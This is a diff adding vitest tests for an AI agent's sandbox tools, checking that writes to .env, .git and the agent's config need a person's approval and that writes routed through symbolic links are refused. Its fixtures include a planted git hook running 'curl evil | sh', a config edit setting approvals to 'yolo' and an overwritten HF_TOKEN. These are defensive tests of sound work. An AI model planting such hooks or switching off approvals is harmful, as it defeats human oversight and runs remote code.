@@ -4,7 +4,9 @@ import path from 'node:path';
 import type { AnyTool } from '@ml-intern/core';
 import { runTool } from '@ml-intern/core/testing';
 import { afterEach, describe, expect, it } from 'vitest';
+import { writeHostFileNoFollow } from './host-files.js';
 import { createLocalSandbox } from './local-sandbox.js';
+import { resolveWorkspacePath } from './resolve-workspace-path.js';
 import { sandboxTools, type SandboxToolsOptions } from './sandbox-tools.js';
 
 const directories: string[] = [];
@@ -197,14 +199,137 @@ describe('paths outside the workspace', () => {
     expect((await call(read, { path: path.join(workspace, 'real.txt') })).output).toBe('     1\tinside');
   });
 
-  it('keeps .git read-only unless configured, and honours extra roots', async () => {
-    const { write, call, workspace } = setup();
+  it('protects .git unless configured, and honours extra roots', async () => {
+    const { write, sandbox, workspace } = setup();
     mkdirSync(path.join(workspace, '.git'));
-    expect((await call(write, { path: '.git/config', content: 'x' })).output).toContain('inside .git');
+    expect(write.approval?.({ path: '.git/config', content: 'x' })).toMatchObject({ decision: 'ask', neverAuto: true });
+    await expect(resolveWorkspacePath(sandbox, '.git/config', 'write')).rejects.toThrow(/inside \.git/);
     const extra = temporaryDirectory('ml-intern-extra-');
     const configured = setup({ gitWritable: true, writableRoots: [extra] });
     mkdirSync(path.join(configured.workspace, '.git'));
+    expect(configured.write.approval?.({ path: '.git/config', content: 'x' })).toMatchObject({ decision: 'allow' });
     expect((await configured.call(configured.write, { path: '.git/config', content: 'x' })).isError).toBe(false);
     expect((await configured.call(configured.write, { path: path.join(extra, 'out.txt'), content: 'x' })).isError).toBe(false);
+  });
+});
+
+describe('protected files', () => {
+  const PROTECTED = ['.ml-intern/config.json', '.env', 'sub/.env.local', '.git/config', 'nested/repo/.git/hooks/pre-commit', './.env', 'sub/../.env', '.envrc', '.ENV', 'deep/.ml-intern/config.json', '.git'];
+
+  it('asks a person for every write or edit of .ml-intern/, .env* and .git, never automatically', () => {
+    const { write, edit, workspace } = setup();
+    for (const requested of [...PROTECTED, path.join(workspace, '.env'), path.join(workspace, 'a/b/.git/HEAD')]) {
+      for (const [tool, args] of [[write, { path: requested, content: 'x' }], [edit, { path: requested, old_string: 'a', new_string: 'b' }]] as const) {
+        const hint = tool.approval?.(args);
+        expect(hint, `${tool.name} ${requested}`).toMatchObject({ decision: 'ask', neverAuto: true, reason: expect.stringMatching(/ is a protected file \((project config|environment|git metadata)\): writing it needs your explicit approval$/) });
+      }
+    }
+    expect(write.approval?.({ path: 'sub/../.env', content: 'x' })?.reason).toBe('.env is a protected file (environment): writing it needs your explicit approval');
+    expect(write.approval?.({ path: '.ml-intern/config.json', content: 'x' })?.reason).toContain('(project config)');
+    expect(write.approval?.({ path: 'nested/repo/.git/hooks/pre-commit', content: 'x' })?.reason).toContain('(git metadata)');
+    for (const ordinary of ['train.py', 'my.env', 'env/config', '.gitignore', '.github/workflows/ci.yml', 'configs/ml-intern.json', '../outside/.env']) {
+      expect(write.approval?.({ path: ordinary, content: 'x' }), ordinary).toMatchObject({ decision: 'allow' });
+    }
+  });
+
+  it('refuses a write that reaches a protected file through a symbolic link', async () => {
+    const { write, edit, read, call, file, workspace } = setup();
+    writeFileSync(file('.env'), 'HF_TOKEN=hf_original\n');
+    mkdirSync(file('.git/hooks'), { recursive: true });
+    mkdirSync(file('.ml-intern'));
+    writeFileSync(file('.ml-intern/config.json'), '{}\n');
+    symlinkSync('.env', file('innocent'));
+    symlinkSync(file('.git'), file('gitlink'));
+    symlinkSync('.ml-intern/config.json', file('settings.json'));
+    await call(read, { path: 'innocent' });
+    const attempts: Array<[AnyTool, Record<string, unknown>]> = [
+      [write, { path: 'innocent', content: 'HF_TOKEN=planted\n' }],
+      [edit, { path: 'innocent', old_string: 'hf_original', new_string: 'planted' }],
+      [write, { path: 'gitlink/hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' }],
+      [write, { path: path.join(workspace, 'settings.json'), content: '{"approvals":{"mode":"yolo"}}' }],
+    ];
+    for (const [tool, args] of attempts) {
+      // Not named as protected, so nobody was asked: the call would run unattended.
+      expect(tool.approval?.(args as never)).toMatchObject({ decision: 'allow' });
+      const result = await call(tool, args);
+      expect(result.isError, `${tool.name} ${JSON.stringify(args)}`).toBe(true);
+      expect(result.output).toMatch(/refused: .* leads through a symbolic link to .*, a protected file/);
+    }
+    expect(readFileSync(file('.env'), 'utf8')).toBe('HF_TOKEN=hf_original\n');
+    expect(readdirSync(file('.git/hooks'))).toEqual([]);
+    expect(readFileSync(file('.ml-intern/config.json'), 'utf8')).toBe('{}\n');
+  });
+
+  it('writes an approved protected file without following a symbolic link in any component', async () => {
+    const { write, edit, read, call, file } = setup();
+    // What execute does once a person approved the write.
+    expect((await call(write, { path: '.ml-intern/config.json', content: '{"model":"x"}\n' })).output).toBe('Created .ml-intern/config.json (1 line, 14 bytes).');
+    expect(readFileSync(file('.ml-intern/config.json'), 'utf8')).toBe('{"model":"x"}\n');
+    writeFileSync(file('.env'), 'A=1\n');
+    chmodSync(file('.env'), 0o600);
+    await call(read, { path: '.env' });
+    expect((await call(edit, { path: './.env', old_string: 'A=1', new_string: 'A=2' })).isError).toBe(false);
+    expect(readFileSync(file('.env'), 'utf8')).toBe('A=2\n');
+    expect(statSync(file('.env')).mode & 0o777).toBe(0o600);
+
+    // Links anywhere on the way are refused, even ones that stay inside the workspace.
+    const outside = temporaryDirectory('ml-intern-outside-');
+    writeFileSync(file('notes.txt'), 'notes\n');
+    symlinkSync('notes.txt', file('.env.local'));
+    mkdirSync(file('real-sub'));
+    symlinkSync('real-sub', file('sub'));
+    mkdirSync(file('gitdir'));
+    symlinkSync('gitdir', file('.git'));
+    await call(read, { path: '.env.local' });
+    for (const requested of ['.env.local', 'sub/.env', '.git/config', 'sub/.git/hooks/post-checkout']) {
+      const result = await call(write, { path: requested, content: 'planted\n' });
+      expect(result.isError, requested).toBe(true);
+      expect(result.output).toMatch(/refused: .* is written without following symbolic links, and .* is one/);
+    }
+    expect(readFileSync(file('notes.txt'), 'utf8')).toBe('notes\n');
+    expect(readdirSync(file('real-sub'))).toEqual([]);
+    expect(readdirSync(file('gitdir'))).toEqual([]);
+    expect(readdirSync(outside)).toEqual([]);
+  });
+
+  it('gives approval rules the canonical workspace-relative path', async () => {
+    const { read, write, edit, sandbox, file, workspace } = setup();
+    const [bash] = sandboxTools({ sandbox }) as [AnyTool];
+    mkdirSync(file('sub'));
+    writeFileSync(file('.env'), 'A=1\n');
+    symlinkSync('.env', file('innocent'));
+    symlinkSync('sub', file('alias'));
+    for (const tool of [read, write, edit]) {
+      const rulePath = async (requested: string) => ((await tool.ruleInput?.({ path: requested, content: '', old_string: 'a', new_string: 'b' })) as { path: string }).path;
+      for (const spelling of ['.env', './.env', path.join(workspace, '.env'), 'sub/../.env', 'innocent', `alias/../.env`]) {
+        expect(await rulePath(spelling), `${tool.name} ${spelling}`).toBe('.env');
+      }
+      expect(await rulePath('alias/new/file.txt')).toBe('sub/new/file.txt');
+      expect(await rulePath('/etc/passwd')).toBe('/etc/passwd');
+      expect(await rulePath('.')).toBe('.');
+    }
+    // The other arguments are kept.
+    expect(await write.ruleInput?.({ path: './a.txt', content: 'hello' })).toEqual({ path: 'a.txt', content: 'hello' });
+    expect(await bash.ruleInput?.({ command: 'ls', work_dir: './alias/' })).toEqual({ command: 'ls', work_dir: 'sub' });
+    expect(await bash.ruleInput?.({ command: 'ls' })).toEqual({ command: 'ls' });
+    await expect(write.ruleInput?.({ path: '', content: '' }) ?? Promise.resolve()).rejects.toThrow(/path is empty/);
+  });
+});
+
+describe('writeHostFileNoFollow', () => {
+  it('creates directories and refuses a link in any component, leaving its target alone', async () => {
+    const root = temporaryDirectory('ml-intern-nofollow-');
+    const outside = temporaryDirectory('ml-intern-outside-');
+    await writeHostFileNoFollow(root, 'a/b/c.txt', 'one');
+    expect(readFileSync(path.join(root, 'a/b/c.txt'), 'utf8')).toBe('one');
+    symlinkSync(outside, path.join(root, 'a/link'));
+    symlinkSync(path.join(outside, 'target.txt'), path.join(root, 'a/file-link'));
+    await expect(writeHostFileNoFollow(root, 'a/link/x.txt', 'two')).rejects.toThrow(/a\/link is one/);
+    await expect(writeHostFileNoFollow(root, 'a/link/new/x.txt', 'two')).rejects.toThrow(/symbolic link/);
+    await expect(writeHostFileNoFollow(root, 'a/file-link', 'two')).rejects.toThrow(/symbolic link/);
+    await expect(writeHostFileNoFollow(root, 'a/b/c.txt/d', 'two')).rejects.toThrow(/not a directory/);
+    await expect(writeHostFileNoFollow(root, '../escape.txt', 'two')).rejects.toThrow(/not a file path/);
+    expect(readdirSync(outside)).toEqual([]);
+    expect(readdirSync(path.join(root, 'a/b'))).toEqual(['c.txt']);
   });
 });
